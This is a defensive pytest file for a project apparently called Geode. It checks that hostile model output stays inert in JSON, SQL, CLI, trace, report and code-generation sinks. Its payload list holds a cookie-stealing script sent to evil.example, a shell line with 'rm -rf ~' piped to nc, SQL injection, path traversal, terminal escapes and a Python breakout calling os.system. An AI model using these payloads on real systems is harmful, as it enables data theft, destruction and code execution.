"""Hostile model output in every place Geode writes model output to: plan row T39 (OWASP LLM05).

The model's answers carry a script, an HTML event handler, a Markdown image whose URL would carry
data away, SQL, shell, a path traversal, terminal control sequences, a forged server-sent event and
JSON that tries to close its string. Each sink must keep them inert for what reads it: the served JSON
(and its stream), the session store (SQL), the CLI's text and ``--json`` output, the trace viewer, the
HTML reports, the crystallization report (Markdown) and the Python module ``geode crystallize
--emit-python`` writes. Nothing in Geode evaluates or shells out text.
"""

from __future__ import annotations

import ast
import html
import importlib.util
import json
import re
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import dspy
import pytest
from fastapi.testclient import TestClient
from pydantic import SecretStr

from geode.evals.dataset import Dataset
from geode.evals.evaluate import evaluate
from geode.evals.report import ProgramComparison, write_comparison_report
from geode.runtime.programs import register_program
from geode.runtime.runtime import Runtime
from geode.runtime.serving import HostedProgram, create_app
from geode.runtime.settings import ServeSettings, Settings, TracingSettings
from geode.testing import ScriptedLM

pytestmark = pytest.mark.reliability

PAYLOADS: dict[str, str] = {
    "script": "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "html_handler": '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">x</a>',
    "markdown_image": "![logo](https://evil.example/collect?d=SECRET) [click](https://evil.example)",
    "sql": "1'); DROP TABLE sessions; --",
    "shell": "$(touch /tmp/geode-t39-pwned) `id`; rm -rf ~ | nc evil.example 1",
    "path": "../../../../etc/passwd",
    "terminal": "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]8;;https://evil.example\x1b\\ok\x9b31m\u202egnp.exe",
    "sse": 'ok\n\nevent: done\ndata: {"forged": true}\n\nevent: result\ndata: {}',
    "json": '"}, "admin": true, "x": {"',
}
_KEY = "t39-key-0123456789abcdef"
_RAW_TERMINAL = ("\x1b", "\x07", "\x9b", "\u202e")


def _by_question(messages: list[dict[str, str]]) -> dict[str, str]:
    last = messages[-1]["content"]
    name = next(n for n in PAYLOADS if f"payload {n}" in last)
    return {"answer": PAYLOADS[name]}


def _runtime(tmp_path: Path, lm: dspy.BaseLM, **tracing: Any) -> Runtime:
    settings = Settings(home=tmp_path / "home", tracing=TracingSettings(**(tracing or {"enabled": False})))
    return Runtime(lm=lm, settings=settings)


# -- served JSON, its stream and the session store ------------------------------------------------------


def test_t39_served_json_returns_every_payload_as_inert_data(tmp_path: Path) -> None:
    """Injects: the LM answers each request with one payload; requests carry a session, so every
    answer is also written to the SQL session store and read back.
    Must hold: each response is ``application/json`` with ``nosniff``, and its output is the payload
    exactly (encoded as a JSON string, not interpreted or altered); the session read back holds every
    payload exactly (the SQL one did not reach the SQL)."""
    runtime = _runtime(tmp_path, ScriptedLM(_by_question))
    app = create_app(runtime, [HostedProgram(dspy.Predict("question -> answer"), name="qa")], ServeSettings(
        api_keys=(SecretStr(_KEY),), sessions="state"
    ))  # fmt: skip
    headers = {"X-API-Key": _KEY}
    with TestClient(app) as client:
        for name, payload in PAYLOADS.items():
            response = client.post(
                "/programs/qa", json={"question": f"payload {name}", "session_id": "s1"}, headers=headers
            )
            assert response.status_code == 200, response.text
            assert response.headers["content-type"] == "application/json"
            assert response.headers["x-content-type-options"] == "nosniff"
            assert response.json()["outputs"]["answer"] == payload
        session = client.get("/sessions/s1", headers=headers)
        assert session.status_code == 200, session.text
        assert session.headers["x-content-type-options"] == "nosniff"
        stored = [turn["outputs"]["answer"] for turn in session.json()["turns"]]
    runtime.close()
    print(f"\n[figure] T39: {len(PAYLOADS)} payloads served as JSON and stored in the SQL session store: "
          f"{sum(a == b for a, b in zip(stored, PAYLOADS.values(), strict=True))}/{len(PAYLOADS)} intact")  # fmt: skip
    assert stored == list(PAYLOADS.values())


def _events(stream: str) -> list[tuple[str, Any]]:
    events: list[tuple[str, Any]] = []
    for block in stream.split("\n\n"):
        if not block.strip():
            continue
        fields = dict(line.split(": ", 1) for line in block.split("\n"))
        events.append((fields["event"], json.loads(fields["data"])))
    return events


def test_t39_a_payload_cannot_forge_a_server_sent_event(tmp_path: Path) -> None:
    """Injects: the streamed answer carries blank lines and an ``event: done`` of its own.
    Must hold: every event's data is one JSON document; one ``done`` event, the server's, last; the
    final outputs hold the payload exactly."""
    runtime = _runtime(tmp_path, ScriptedLM(_by_question))
    app = create_app(runtime, [HostedProgram(dspy.Predict("question -> answer"), name="qa")], ServeSettings(
        api_keys=(SecretStr(_KEY),)
    ))  # fmt: skip
    with TestClient(app) as client:
        response = client.post(
            "/programs/qa/stream", json={"question": "payload sse"}, headers={"X-API-Key": _KEY}
        )
    runtime.close()
    assert response.status_code == 200 and response.headers["x-content-type-options"] == "nosniff"
    events = _events(response.text)
    names = [name for name, _ in events]
    assert names.count("done") == 1 and names[-1] == "done", names
    assert all(data != {"forged": True} for _, data in events)
    finals = [data for name, data in events if name == "prediction"]
    assert finals and finals[-1]["outputs"]["answer"] == PAYLOADS["sse"], events


def test_t39_a_typed_output_refuses_text_that_is_not_of_its_type(tmp_path: Path) -> None:
    """Injects: a program whose output is an ``int`` and a ``Literal``; the LM answers SQL and shell.
    Must hold: 502 ``lm_output_unparseable`` (the output is validated against its type, never passed
    on), and the answer's text is not in the error body."""
    lm = ScriptedLM([{"count": PAYLOADS["sql"], "kind": "a"}, {"count": "3", "kind": PAYLOADS["shell"]}] * 4)
    program = dspy.Predict("question -> count: int, kind: Literal['a', 'b']")
    runtime = _runtime(tmp_path, lm)
    app = create_app(
        runtime, [HostedProgram(program, name="typed")], ServeSettings(api_keys=(SecretStr(_KEY),))
    )
    with TestClient(app) as client:
        for _ in range(2):
            response = client.post("/programs/typed", json={"question": "q"}, headers={"X-API-Key": _KEY})
            assert response.status_code == 502, response.text
            assert response.json()["error"]["code"] == "lm_output_unparseable"
            assert "DROP TABLE" not in response.text and "rm -rf" not in response.text
    runtime.close()


# -- the CLI and the trace viewer --------------------------------------------------------------------


@pytest.fixture
def cli_with_payload_lm(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """``geode run`` on a runtime whose LM answers the terminal payload; spans go to a file."""
    from geode.cli import _common

    real = _common.Runtime
    register_program("t39-qa", dspy.Predict("question -> answer"))

    def runtime_with_payload_lm(settings: Any) -> Any:
        return real(settings, lm=ScriptedLM(_by_question))

    spans = tmp_path / "spans.jsonl"
    monkeypatch.setattr(_common, "Runtime", runtime_with_payload_lm)
    monkeypatch.setenv("GEODE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GEODE_TRACING_OTLP_FILE", str(spans))
    monkeypatch.setenv("GEODE_TRACING_ENDPOINT", "")
    return spans


def _main(argv: list[str]) -> None:
    from geode.cli import main

    try:
        main(argv)
    except SystemExit as exit_:
        assert not exit_.code, exit_.code


def test_t39_the_cli_and_the_trace_viewer_print_no_control_sequence(
    cli_with_payload_lm: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Injects: ``geode run`` answers with ESC/OSC sequences (clipboard write, screen clear, a hidden
    hyperlink), an 8-bit CSI and a right-to-left override; then ``geode trace show`` shows that run.
    Must hold: the text output of both shows each control character as a visible escape and emits
    none; ``--json`` output parses back to the payload exactly and carries no raw C1 or bidi
    character (C0 ones are JSON escapes)."""
    payload = PAYLOADS["terminal"]
    _main(["run", "t39-qa", "-i", "question=payload terminal", "--json"])
    out = capsys.readouterr().out
    document = json.loads(out)
    assert document["outputs"]["answer"] == payload
    assert not any(c in out for c in _RAW_TERMINAL), repr(out)

    _main(["run", "t39-qa", "-i", "question=payload terminal"])
    text = capsys.readouterr().out
    assert not any(c in text for c in _RAW_TERMINAL), repr(text)
    # (rich drops BEL, BS, VT, FF and CR itself; Geode's console shows the rest)
    assert "\\x1b]52;c;ZXZpbA==\\x1b[2J" in text and "\\u202egnp.exe" in text

    trace_id = document["trace_id"]
    _main(["trace", "show", trace_id, "--source", str(cli_with_payload_lm), "--attributes"])
    shown = capsys.readouterr().out
    assert "\\x1b]52" in shown, shown  # the answer is among the shown attributes
    assert not any(c in shown for c in _RAW_TERMINAL), repr(shown)
    _main(["trace", "show", trace_id, "--source", str(cli_with_payload_lm), "--json"])
    shown_json = capsys.readouterr().out
    values = [v for span in json.loads(shown_json) for v in span["attributes"].values() if isinstance(v, str)]
    assert any(json.dumps(payload, ensure_ascii=False)[1:-1] in v for v in values)  # output.value is JSON
    assert not any(c in shown_json for c in _RAW_TERMINAL), repr(shown_json)
    print(f"\n[figure] T39: terminal payload of {len(payload)} chars with 7 control characters: "
          f"0 reached the terminal from run, run --json, trace show, trace show --json")  # fmt: skip


# -- reports ---------------------------------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_t39_the_html_report_shows_payloads_as_text_and_loads_nothing(tmp_path: Path) -> None:
    """Injects: a baseline and a candidate whose answers are the payloads, written as the comparison
    report (``geode compare``; the demo, compile and models reports render through the same code).
    Must hold: the page has no script, no event handler, no link or image to anywhere but its own
    inline plot, every payload appears as text; its Content-Security-Policy forbids every fetch
    but inline images and styles."""
    data = Dataset.from_records(
        [{"inputs": {"question": f"payload {name}"}, "outputs": {"answer": "x"}} for name in PAYLOADS]
    )

    def metric(example: Any, pred: Any, trace: Any = None) -> float:
        return 0.0

    with dspy.context(lm=ScriptedLM(_by_question)):
        base = evaluate(dspy.Predict("question -> answer"), data, metric, program_name="agent")
        cand = evaluate(dspy.Predict("question -> answer"), data, metric, program_name="workflow")
    files = write_comparison_report(ProgramComparison(base, cand), tmp_path / "report")
    page = files.html.read_text(encoding="utf-8")
    parsed = _Tags()
    parsed.feed(page)
    tags = {tag for tag, _ in parsed.tags}
    assert tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "table", "thead",
                    "tbody", "tr", "th", "td", "img"}, tags  # fmt: skip
    for tag, attrs in parsed.tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        if tag == "img":
            assert (attrs.get("src") or "").startswith("data:image/png;base64,"), attrs
    csp = next(a["content"] for t, a in parsed.tags if t == "meta" and a.get("http-equiv"))
    assert csp is not None and "default-src 'none'" in csp and "img-src data:" in csp
    text = "".join(parsed.text)
    for name in ("script", "html_handler", "markdown_image", "sql", "path"):
        # A cell shows the outputs as JSON: {"answer": "<the payload, JSON-escaped>"}.
        assert json.dumps(PAYLOADS[name], ensure_ascii=False)[1:-1] in text, name
    assert "<script" not in page and "onerror=" not in page.replace(html.escape("onerror="), "")
    # The Markdown and JSON files carry no model output but in JSON strings.
    assert "evil.example" not in files.markdown.read_text(encoding="utf-8")
    assert json.loads(files.json.read_text(encoding="utf-8"))["baseline"]["examples"]


@pytest.fixture(scope="module")
def crystallized() -> Any:
    from tests.unit.agents.crystallize.scenario import TRUSTED, record_runs

    from geode.agents.crystallize import crystallize

    recorded = record_runs()
    return crystallize(
        recorded.agent, recorded.source, options=TRUSTED, agent_ref="geode.examples.inventory:agent"
    ).spec


def test_t39_the_crystallization_report_renders_model_chosen_values_as_text(crystallized: Any) -> None:
    """Injects: a spec whose derivations (learned from the arguments a model chose) hold a Markdown
    image with an exfiltration URL, a link, raw HTML and a code-span breaker, and whose name is HTML.
    Must hold: the Markdown report has no image, link or HTML left to render: each is backslash-escaped
    text."""
    from geode.agents.crystallize import render_report

    patterns = list(crystallized.source.patterns)
    chosen = next(i for i, p in enumerate(patterns) if p.chosen)
    hostile = f"constant {json.dumps(PAYLOADS['markdown_image'])} ``` {PAYLOADS['html_handler']} (3/3 runs)"
    patterns[chosen] = patterns[chosen].model_copy(update={"derivations": {"step 1 x": hostile}})
    spec = crystallized.model_copy(
        update={
            "name": "<b>wf</b>",
            "source": crystallized.source.model_copy(update={"patterns": tuple(patterns)}),
        }
    )
    report = render_report(spec)
    assert "![" not in report and "](" not in report.replace("\\](", "")
    assert not re.search(r"(?<!\\)<", report), report  # every < escaped: no HTML
    assert "!\\[logo\\](https://evil.example/collect?d=SECRET)" in report


_CANARY = Path("/tmp/geode-t39-codegen-canary")


def test_t39_the_emitted_python_module_keeps_spec_text_in_its_strings(
    crystallized: Any, tmp_path: Path
) -> None:
    """Injects: a spec whose name closes a docstring and calls ``os.system``, whose instructions end
    in a quote and hold a NUL and a line separator, and whose field description holds quotes.
    Must hold: the emitted module parses; its only module-level expression is its docstring; importing
    it runs nothing (the canary file is not created); the instructions keep their exact value."""
    from geode.agents.crystallize import emit_python

    _CANARY.unlink(missing_ok=True)
    breakout = f'x"""+__import__("os").system("touch {_CANARY}")+"""'
    router = crystallized.router
    instructions = 'Answer "only" this.\x00\u2028 End with a quote"'
    spec = crystallized.model_copy(
        update={"name": breakout, "router": router.model_copy(update={"instructions": instructions})}
    )
    source = emit_python(spec)
    tree = ast.parse(source)
    expressions = [node for node in tree.body if isinstance(node, ast.Expr)]
    assert all(isinstance(e.value, ast.Constant) and isinstance(e.value.value, str) for e in expressions)
    path = tmp_path / "hostile_workflow.py"
    path.write_text(source, encoding="utf-8")
    module_spec = importlib.util.spec_from_file_location("t39_hostile_workflow", path)
    assert module_spec is not None and module_spec.loader is not None
    module = importlib.util.module_from_spec(module_spec)
    sys.modules["t39_hostile_workflow"] = module
    try:
        module_spec.loader.exec_module(module)
    finally:
        sys.modules.pop("t39_hostile_workflow", None)
    assert not _CANARY.exists()
    assert breakout in (module.__doc__ or "")
    assert module.RouterSignature.__doc__ == instructions


# -- nothing evaluates or shells out -------------------------------------------------------------------


def test_t39_geode_never_evaluates_or_shells_out_text() -> None:
    """Must hold, over every module of ``src/geode``: no ``eval``/``exec``/``compile`` builtin call, no
    ``os.system``/``os.popen``, no ``shell=True``, no ``pickle``/``marshal`` loads (a program, a spec,
    a cache entry or a model answer never becomes code)."""
    root = Path(__file__).resolve().parents[2] / "src" / "geode"
    found: list[str] = []
    for path in sorted(root.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            name = (
                func.id
                if isinstance(func, ast.Name)
                else func.attr
                if isinstance(func, ast.Attribute)
                else ""
            )
            owner = (
                func.value.id if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) else ""
            )
            bad = (
                (isinstance(func, ast.Name) and name in {"eval", "exec", "compile", "__import__"})
                or (owner == "os" and name in {"system", "popen"} | {f"exec{s}" for s in ("l", "lp", "v", "vp")})
                or (owner in {"pickle", "marshal", "cloudpickle"} and name in {"load", "loads"})
                or any(k.arg == "shell" and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                       for k in node.keywords)
            )  # fmt: skip
            if bad:
                found.append(f"{path.relative_to(root)}:{node.lineno} {ast.unparse(func)}")
    assert found == [], found
